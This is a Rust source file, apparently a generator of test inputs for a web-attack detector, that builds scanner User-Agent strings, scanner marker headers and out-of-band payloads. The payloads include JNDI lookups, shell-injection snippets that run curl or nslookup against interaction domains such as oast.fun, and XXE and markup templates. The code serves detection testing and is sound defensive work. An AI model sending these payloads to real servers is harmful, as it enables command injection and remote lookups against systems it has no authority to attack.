//! Attack-tool fingerprints: the User-Agent (and marker headers) each scanner sends, built
//! from the tool's product token × version × the comment and URL it carries; and out-of-band
//! interaction domains (`<id>.oast.fun`) inside the payload shapes that make a server call
//! them (URLs, JNDI lookups, shell lookups, markup).

use crate::mutate::{join, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

pub struct Scanner;

fn version(rng: &mut Rng) -> String {
    format!("{}.{}.{}", rng.range(0, 4), rng.range(0, 12), rng.range(0, 20))
}

/// One tool's User-Agent.
fn user_agent(rng: &mut Rng) -> String {
    let v = version(rng);
    match rng.below(20) {
        0 => format!("sqlmap/{v}#{} (https://sqlmap.org)", rng.pick(&["stable", "dev"])),
        1 => format!("Mozilla/5.00 (Nikto/2.{}.{}) (Evasions:None) (Test:{:06})", rng.range(1, 5), rng.range(0, 9), rng.below(999_999)),
        2 => "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.116 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)".replace("Chrome/83", &format!("Chrome/{}", rng.range(70, 126))),
        3 => format!("Nuclei/v{v} (github.com/projectdiscovery/nuclei)"),
        4 => "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)".into(),
        5 => format!("masscan/1.{} (https://github.com/robertdavidgraham/masscan)", rng.range(0, 3)),
        6 => format!("Mozilla/5.0 zgrab/0.{}", rng.pick(&["x", "1", "2"])),
        7 => format!("gobuster/{v}"),
        8 => format!("Fuzz Faster U Fool v{v}"),
        9 => format!("Wfuzz/{v}"),
        10 => format!("DirBuster-{} (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", rng.pick(&["1.0-RC1", "0.12"])),
        11 => format!("WPScan v{v} (https://wpscan.com/wordpress-security-scanner)"),
        12 => format!("WhatWeb/{v}"),
        13 => format!("commix/v{v}-{} (https://commixproject.com)", rng.pick(&["stable", "dev"])),
        14 => "Mozilla/4.0 (Hydra)".into(),
        15 => format!("Mozilla/5.0 [en] (X11, U; OpenVAS-VT {v})"),
        16 => format!("Arachni/v{v}"),
        17 => format!("w3af.org {}", rng.pick(&["", "scanner"])).trim().to_string(),
        18 => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0 Safari/537.36 Acunetix-WVS/{v}", rng.range(80, 126)),
        _ => format!("Mozilla/5.0 (compatible; Netsparker/{v}; +https://www.netsparker.com)"),
    }
}

/// A marker header a scanner adds besides its User-Agent.
fn marker_header(rng: &mut Rng) -> (&'static str, String) {
    match rng.below(3) {
        0 => ("acunetix-product", format!("WVS/{} (Acunetix Web Vulnerability Scanner - Free Edition)", version(rng))),
        1 => ("x-scanner", "Netsparker".into()),
        _ => ("x-scanner", rng.pick(&["Nuclei", "Acunetix", "Netsparker", "sqlmap"]).to_string()),
    }
}

const OOB: &[&str] = &[
    "interact.sh",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "oastify.com",
    "burpcollaborator.net",
    "dnslog.cn",
    "ceye.io",
];

fn oob_payload(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
    let id: String = (0..rng.range(8, 33)).map(|_| (b"abcdefghijklmnopqrstuvwxyz0123456789"[rng.below(36)]) as char).collect();
    let domain = format!("{id}.{}", rng.pick(OOB));
    let domain = if rng.chance(0.2) {
        names.push("case");
        random_case(rng, &domain)
    } else {
        domain
    };
    let (text, shape) = match rng.below(7) {
        0 => (format!("http://{domain}/{}", rng.pick(&["", "x", "a?b=1"])), "url"),
        1 => (format!("${{jndi:{}://{domain}/{}}}", rng.pick(&["ldap", "dns", "rmi"]), rng.pick(&["a", "Exploit", "x"])), "jndi"),
        2 => (
            format!("{}{} {domain}", rng.pick(&[";", "|", "`", "$("]), rng.pick(&["nslookup", "curl", "ping -c1", "wget", "dig"])),
            "shell",
        ),
        3 => (format!("<img src=\"//{domain}/p.png\">"), "markup"),
        4 => (format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"http://{domain}/x\">]>"), "xxe"),
        5 => (domain.clone(), "bare"),
        _ => (format!("{}@{domain}", rng.pick(&["test", "x", "admin"])), "email"),
    };
    names.push(shape);
    text
}

impl Family for Scanner {
    fn name(&self) -> &'static str {
        "scanner"
    }

    fn detector(&self) -> &'static str {
        "scanner"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut names: Vec<&'static str> = Vec::new();
        match rng.below(5) {
            0 | 1 => {
                names.push("user-agent");
                Variant { family: "scanner", mutation: join(&names), payload: user_agent(rng), carrier: Carrier::Header("user-agent") }
            }
            2 => {
                names.push("marker-header");
                let (header, value) = marker_header(rng);
                Variant { family: "scanner", mutation: join(&names), payload: value, carrier: Carrier::Header(header) }
            }
            _ => {
                names.push("oob");
                let text = oob_payload(rng, &mut names);
                let (payload, layer) = transport_layer(rng, &text);
                names.push(layer);
                Variant { family: "scanner", mutation: join(&names), payload, carrier: Carrier::Value }
            }
        }
    }
}
